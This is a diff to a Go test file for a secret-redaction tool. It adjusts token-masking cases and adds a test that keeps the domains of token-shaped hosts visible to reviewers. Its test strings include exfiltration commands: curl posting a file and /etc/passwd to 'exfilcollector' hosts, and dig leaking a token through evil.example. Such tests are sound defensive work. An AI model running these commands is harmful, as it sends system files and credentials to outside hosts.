@@ -646,7 +646,7 @@ func TestJOSEShapes(t *testing.T) {
 		{"tok " + stdHdr + "." + stdPay + ".AbcDef" + sigStd, "tok " + Mask},
 		{"Zm9v" + spaced + "." + payload + "." + sigURL, "Zm9v" + Mask},
 		{"network" + spaced + "." + payload + "." + sigURL, "network" + Mask},
-		{"enc " + jweEnc + ".." + strings.Repeat("A", 16) + "." + strings.Repeat("B", 40) + "." + strings.Repeat("C", 22), "enc " + Mask},
+		{"enc " + jweEnc + ".." + strings.Repeat("A", 16) + "." + strings.Repeat("B", 40) + "." + "Cc9_"+strings.Repeat("C", 18), "enc " + Mask},
 		// A URL-safe token before a path: the path is not its signature.
 		{"https://api.example/t/" + spaced + "." + payload + "." + sigURL + "/refresh", "https://api.example/t/" + Mask + "/refresh"},
 		{"https://api.example/t/" + compact + "." + payload + "." + sigPlain + "/refresh", "https://api.example/t/" + Mask + "/refresh"},
@@ -707,15 +707,37 @@ func TestGoogleTokenLengths(t *testing.T) {
 	body := func(n int) string { return ("a0AfB_byC" + strings.Repeat("x1Y-Q", 60))[:n] }
 	for _, tc := range []struct{ in, want string }{
 		{"Authorization: Bearer ya29." + body(20), "Authorization: Bearer " + Mask},
-		{"tok ya29." + body(51) + " x", "tok " + Mask + " x"},
+		{"tok ya29." + body(64) + " x", "tok " + Mask + " x"},
 		{"?access_token=ya29." + body(40) + "&x=1", "?access_token=" + Mask + "&x=1"},
-		{"ya29.c." + body(30) + ". Then", Mask + ". Then"},
+		{"ya29.c." + body(64) + ". Then", Mask + ". Then"},
+		// Bare and up to a DNS label's 63 characters, it may be a host's
+		// top-level domain: the reviewer must see where the data goes.
+		{"tok ya29." + body(51) + " x", "tok ya29." + body(51) + " x"},
+		{"curl -d @f https://ya29.xn--clchc0ea0b2g2a9gcd/upload", "curl -d @f https://ya29.xn--clchc0ea0b2g2a9gcd/upload"},
 		{"dig ya29." + body(64) + ".evil.example", "dig " + Mask + ".evil.example"},
 		{"dig ya29." + body(63) + ".evil.example", "dig ya29." + body(63) + ".evil.example"},
 		{"ya29." + body(19), "ya29." + body(19)},
 	} {
 		if got := r.String(tc.in); got != tc.want {
 			t.Errorf("String(%q)\n got  %q\n want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+// TestTokenShapedHostKeepsItsDomain: a host whose labels have a token's
+// shape, ending in a long top-level domain (no ".name" after the match),
+// keeps its last two labels, the domain, in clear for the reviewer.
+func TestTokenShapedHostKeepsItsDomain(t *testing.T) {
+	r := New(nil).ForReviewers()
+	for _, host := range []string{
+		"eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0.k.0123456789abcdef.exfilcollector001.xn--clchc0ea0b2g2a9gcd",
+		"ewogImFsZyI6ICJkaXIiCn0.k.0123456789abcdef.exfilcollector001.XN--MGBERP4A5D4AR",
+		"eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0.k.0123456789abcdef.exfilcollector001.travelersinsurance",
+	} {
+		in := "curl -d @/etc/passwd https://" + host + "/u"
+		domain := host[strings.LastIndexByte(host[:strings.LastIndexByte(host, '.')], '.')+1:]
+		if got := r.String(in); !strings.Contains(got, domain+"/u") {
+			t.Errorf("String(%q) = %q; want the domain %s in clear", in, got, domain)
 		}
 	}
 }
